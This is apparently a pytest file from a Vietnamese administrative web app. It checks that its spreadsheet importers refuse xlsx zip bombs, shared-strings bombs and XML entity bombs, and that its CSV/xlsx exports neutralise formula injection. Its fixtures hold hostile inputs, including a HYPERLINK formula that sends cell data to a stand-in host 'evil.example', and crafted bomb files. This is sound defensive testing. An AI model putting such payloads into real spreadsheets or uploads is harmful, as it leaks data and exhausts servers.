"""Imports bounded and exports inert (issue 15).

The .xlsx bombs of the issue are built here: a 1.5 KB file declaring `A1:XFD10000`, sheets
reaching row 1,048,576, a shared-strings bomb, an entity bomb; each is refused (or read) in
well under a second with little memory, by every importer. Every export writes a note like
`=HYPERLINK("http://evil.example/?d="&C5,"Xem")` as text."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from cchc_web.core import spreadsheets
from cchc_web.core.errors import DomainError
from cchc_web.core.extensions import db
from cchc_web.core.spreadsheets import SpreadsheetRefused
from cchc_web.models import Report
from cchc_web.par_index import tabular
from cchc_web.plans import importer
from cchc_web.plans import services as plans

from .factories import import_demo_plan, make_par_set

EVIL = '=HYPERLINK("http://evil.example/?d="&C5,"Xem")'
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PKG = "http://schemas.openxmlformats.org/package/2006/"
CONTENT_TYPES = (
    f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PKG}content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{SML}sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SML}worksheet+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SML}sharedStrings+xml"/>'
    "</Types>"
)
RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}relationships">'
    f'<Relationship Id="rId1" Type="{REL}officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}relationships">'
    f'<Relationship Id="rId1" Type="{REL}worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL}sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
HEADER_ROW = (
    '<row r="1">'
    + "".join(
        f'<c r="{col}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for col, name in zip("ABCDEF", importer.TASK_COLUMNS, strict=True)
    )
    + "</row>"
)


def sheet_xml(rows: str, dimension: str = "A1:F2") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    )


def xlsx(sheet: str, strings: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    strings = strings or (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", RELS)
        z.writestr("xl/workbook.xml", WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", strings)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def bounded(read) -> tuple[object, float, float]:
    """Run `read()`; return (result or exception, CPU seconds, peak MB allocated). CPU time of
    this thread, not the wall clock: a machine busy with other work must not fail the test,
    while a bomb that is read to the end (100 s before issue 15) still does."""
    tracemalloc.start()
    started = time.thread_time()
    try:
        result = read()
    except Exception as err:  # noqa: BLE001 - the refusal is the result being measured
        result = err
    seconds = time.thread_time() - started
    peak = tracemalloc.get_traced_memory()[1] / 1024 / 1024
    tracemalloc.stop()
    return result, seconds, peak


IMPORTERS = {
    "plan": lambda data: importer.read_table("ke-hoach.xlsx", data),
    "par": lambda data: tabular.read_table("bo-chi-so.xlsx", data),
}


@pytest.mark.parametrize("which", IMPORTERS)
def test_declared_dimension_a1_xfd10000_costs_nothing(which):
    """1.5 KB declaring 16,384 columns × 10,000 rows: 1.38 GB before, the real cells now."""
    data = xlsx(sheet_xml(HEADER_ROW, dimension="A1:XFD10000"))
    assert len(data) < 2000
    result, seconds, peak = bounded(lambda: IMPORTERS[which](data))
    assert seconds < 3 and peak < 50, (seconds, peak)
    if which == "plan":
        assert result == [(0, {"__header__": ",".join(importer.TASK_COLUMNS)})]


@pytest.mark.parametrize("which", IMPORTERS)
def test_a_row_at_1048576_is_refused_while_reading(which):
    far = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    data = xlsx(sheet_xml(HEADER_ROW + far, dimension="A1:XFD1048576"))
    result, seconds, peak = bounded(lambda: IMPORTERS[which](data))
    assert isinstance(result, importer.ImportFileError | DomainError), result
    assert "quá 2000 dòng" in str(getattr(result, "message", result))
    assert seconds < 3 and peak < 50, (seconds, peak)


def test_dense_rows_stop_at_the_limit_while_reading():
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>1.{n}</t></is></c></row>'
        for n in range(2, 30_000)
    )
    data = xlsx(sheet_xml(HEADER_ROW + rows))
    result, seconds, peak = bounded(lambda: IMPORTERS["plan"](data))
    assert isinstance(result, importer.ImportFileError)
    assert seconds < 3 and peak < 50, (seconds, peak)


@pytest.mark.parametrize("which", IMPORTERS)
def test_shared_strings_bomb_is_refused_before_parsing(which):
    """A few hundred KB that unpack to 40 MB of strings: 101 s and 1.6 GB before."""
    strings = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + "<si><t>"
        + "A" * 4000
        + "</t></si>" * 1  # noqa: ISC003
        + "<si><t>bomb</t></si>" * 2_000_000
        + "</sst>"
    )
    data = xlsx(sheet_xml(HEADER_ROW), strings)
    assert len(data) < 300_000
    result, seconds, peak = bounded(lambda: IMPORTERS[which](data))
    assert isinstance(result, importer.ImportFileError | DomainError), result
    assert "cấu trúc bất thường" in str(getattr(result, "message", result))
    assert seconds < 3 and peak < 50, (seconds, peak)


def test_entity_declarations_are_refused():
    laughs = (
        '<?xml version="1.0"?><!-- ' + " " * 100_000 + ' --><!DOCTYPE sst [<!ENTITY a "aaaa">'
        '<!ENTITY b "&a;&a;&a;&a;">]><sst xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><si><t>&b;</t></si></sst>'
    )
    with pytest.raises(SpreadsheetRefused, match="DOCTYPE"):
        spreadsheets.read_xlsx_rows(xlsx(sheet_xml(HEADER_ROW), laughs), 10)


def test_too_many_members_and_damaged_files_are_refused():
    many = xlsx(sheet_xml(HEADER_ROW), extra={f"junk/{n}.bin": b"" for n in range(300)})
    with pytest.raises(SpreadsheetRefused, match="thành phần"):
        spreadsheets.check_xlsx_archive(many)
    with pytest.raises(SpreadsheetRefused, match="bị hỏng"):
        spreadsheets.read_xlsx_rows(b"PK\x03\x04 not really a zip", 10)


def test_csv_stops_at_the_limit_and_size_is_capped():
    text = "ma,noi_dung\n" + "".join(f"1.{n},x\n" for n in range(50_000))
    with pytest.raises(SpreadsheetRefused, match="quá 2000 dòng"):
        spreadsheets.read_csv_rows(text, ",", 2001)
    with pytest.raises(DomainError, match="lớn hơn 2 MB"):
        tabular.read_table("bo-chi-so.csv", b"x" * (3 * 1024 * 1024))
    with pytest.raises(importer.ImportFileError, match="lớn hơn 2 MB"):
        importer.read_table("ke-hoach.csv", b"x" * (3 * 1024 * 1024))


def test_par_import_route_reads_at_most_the_cap(client, login_as, monkeypatch):
    login_as("secretariat", office="VHXH")
    response = client.post(
        "/par-index/new",
        data={"year": "2031", "source": "file", "file": (io.BytesIO(b"a" * 3_000_000), "x.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert "lớn hơn 2 MB" in response.text


def test_a_real_table_still_imports():
    workbook = Workbook()
    workbook.active.append(list(importer.TASK_COLUMNS))
    workbook.active.append(["1.1", "1", "Ban hành kế hoạch", "VP", "", "2025-07"])
    data = spreadsheets.workbook_bytes(workbook)
    rows = importer.read_table("ke-hoach.xlsx", data)
    values = ["1.1", "1", "Ban hành kế hoạch", "VP", "", "2025-07"]
    assert rows[1] == (2, dict(zip(importer.TASK_COLUMNS, values, strict=True)))


# -- exports ----------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [EVIL, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_look_like_formulas_get_an_apostrophe(text):
    data = spreadsheets.csv_bytes(["Mã", "Nội dung"], [["1", text], [-5, 2.5]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["1", "'" + text]
    assert rows[2] == ["-5", "2.5"]  # numbers stay numbers
    assert spreadsheets.restore_text(rows[1][1]) == text


def test_xlsx_cells_are_never_formulas():
    workbook = Workbook()
    workbook.active.append(["Ghi chú", EVIL, 42, "=1+1"])
    loaded = load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook)))
    cells = loaded.active[1]
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]
    assert cells[1].value == EVIL and cells[1].quotePrefix


def test_report_export_writes_a_formula_note_as_text(client, login_as, commune):
    plan = import_demo_plan()
    head = login_as("head", office="VP")
    task = next(t for t in plan.tasks if t.code == "2.1")
    update = plans.record_task_update(task, plans.UpdateData("in_progress", 40, EVIL), head)
    update.created_at = datetime(2025, 11, 1, 3, tzinfo=UTC)
    db.session.commit()
    client.post("/reports/office/vp/new", data={"period": "month:2025-11-14"})
    report = db.session.scalar(select(Report).order_by(Report.id.desc()))
    response = client.get(f"/reports/{report.id}.xlsx")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    found = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert found and all(c.data_type == "s" for c in found)


def test_plan_xlsx_and_par_exports_are_inert(client, login_as, commune):
    plan = import_demo_plan()
    plan.tasks[0].content = "=1+1 nội dung"
    db.session.commit()
    login_as("secretariat", office="VHXH")
    sheet = load_workbook(io.BytesIO(client.get(f"/plans/{plan.id}/export.xlsx").data))["Nhiệm vụ"]
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1 nội dung"]
    assert cell.data_type == "s"

    index_set = make_par_set()
    index_set.items[0].title = "@lệnh"
    db.session.commit()
    exported = client.get(f"/par-index/{index_set.id}/export.csv")
    assert exported.headers["Cache-Control"] == "private, no-store"
    assert "'@lệnh" in exported.data.decode("utf-8-sig")
    workbook = load_workbook(io.BytesIO(client.get(f"/par-index/{index_set.id}/export.xlsx").data))
    (cell,) = [c for row in workbook.active.iter_rows() for c in row if c.value == "@lệnh"]
    assert cell.data_type == "s"
    # The CSV export imports again unchanged: the apostrophe is taken off.
    table = tabular.read_table("lai.csv", exported.data)
    assert any("@lệnh" in cells for _n, cells in table)
